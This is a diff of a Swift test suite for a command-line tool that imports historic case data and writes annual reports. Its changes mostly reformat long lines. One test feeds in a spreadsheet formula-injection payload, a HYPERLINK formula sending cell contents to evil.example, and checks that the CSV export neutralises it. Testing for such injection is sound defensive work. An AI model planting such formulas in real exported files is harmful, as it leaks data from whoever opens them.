@@ -16,7 +16,8 @@ struct ReportCommandTests {
         let path = cli.folder.path("historic.csv")
         try Data(Self.file.utf8).write(to: URL(fileURLWithPath: path))
         let imported = try await cli.run("import", path)
-        #expect(imported.status == 0 && imported.output.contains("Imported 2 historic cases (2 reviewed)"), "\(imported)")
+        #expect(
+            imported.status == 0 && imported.output.contains("Imported 2 historic cases (2 reviewed)"), "\(imported)")
         #expect(imported.error.isEmpty, "no progress line when stderr is not a terminal")
         let again = try await cli.run("import", path, "--json")
         #expect(again.object?["alreadyImported"] as? Bool == true, "\(again)")
@@ -27,8 +28,11 @@ struct ReportCommandTests {
         let page = try String(contentsOfFile: out + "/annual-report-2024-25-published.html", encoding: .utf8)
         #expect(page.contains("@page { size: A4") && page.contains("<svg") && !page.contains("Testchild"))
         let csv = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--format", "csv", "--json")
-        #expect((csv.object?["files"] as? [String])?.count == 18, "one file per table: 13, two three-way tables and three trends")
-        let json = try await cli.run("report", "annual", "--from", "2008-04-01", "--to", "2009-03-31", "--out", out, "--format", "json")
+        #expect(
+            (csv.object?["files"] as? [String])?.count == 18,
+            "one file per table: 13, two three-way tables and three trends")
+        let json = try await cli.run(
+            "report", "annual", "--from", "2008-04-01", "--to", "2009-03-31", "--out", out, "--format", "json")
         #expect(json.status == 0, "\(json)")
         let report = try String(contentsOfFile: out + "/annual-report-2008-09.json", encoding: .utf8)
         #expect(report.contains("\"Not preventable\""))
@@ -41,9 +45,11 @@ struct ReportCommandTests {
     func hostileThemeIsNeutralisedInTheCSV() async throws {
         let cli = CLI()
         let theme = #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#
-        let row = "H-3,Sample,2020-03-04,male,NTH,2024-08-01,2024-08-02,unexpected,2025-02-11,6,insufficient information,,"
+        let row =
+            "H-3,Sample,2020-03-04,male,NTH,2024-08-01,2024-08-02,unexpected,2025-02-11,6,insufficient information,,"
         let lines = Self.file.split(separator: "\n").map(String.init)
-        let file = ([lines[0] + ",learning_themes"] + lines.dropFirst().map { $0 + "," }).joined(separator: "\n")
+        let file =
+            ([lines[0] + ",learning_themes"] + lines.dropFirst().map { $0 + "," }).joined(separator: "\n")
             + "\n" + row + "\"" + theme.replacingOccurrences(of: "\"", with: "\"\"") + "\"\n"
         let path = cli.folder.path("historic.csv")
         try Data(file.utf8).write(to: URL(fileURLWithPath: path))
@@ -54,7 +60,9 @@ struct ReportCommandTests {
         let csv = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--format", "csv")
         #expect(csv.status == 0, "\(csv)")
         let themes = try String(contentsOfFile: out + "/annual-report-2024-25-learning-themes.csv", encoding: .utf8)
-        #expect(themes == "Theme,Reviews\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",1\r\n", "\(themes)")
+        #expect(
+            themes == "Theme,Reviews\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",1\r\n",
+            "\(themes)")
     }
 
     @Test("Bad rows are named by row and column and nothing is imported; a bad option is named")
@@ -72,6 +80,9 @@ struct ReportCommandTests {
         let noYear = try await cli.run("report", "annual")
         #expect(noYear.status == 1 && noYear.error.contains("--year"), "\(noYear)")
         let badDate = try await cli.run("report", "annual", "--from", "2025-02-30", "--to", "2025-03-31")
-        #expect(badDate.status == 1 && badDate.error.contains("The value '2025-02-30' is invalid for '--from <from>': not a date"), "\(badDate)")
+        #expect(
+            badDate.status == 1
+                && badDate.error.contains("The value '2025-02-30' is invalid for '--from <from>': not a date"),
+            "\(badDate)")
     }
 }
